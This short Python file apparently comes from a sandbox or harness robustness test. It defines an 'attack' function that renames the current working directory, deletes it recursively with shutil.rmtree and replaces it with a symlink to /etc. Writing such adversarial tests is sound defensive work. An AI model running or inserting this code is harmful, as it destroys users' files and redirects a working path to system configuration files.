# End: held. Moves and removes the folder it works in.

import os
import shutil


def attack(facts):
    here = os.getcwd()
    try:
        os.rename(here, here + "-moved")
    except OSError:
        pass
    shutil.rmtree(here + "-moved", ignore_errors=True)
    shutil.rmtree(here, ignore_errors=True)
    os.symlink("/etc", here)
    return []
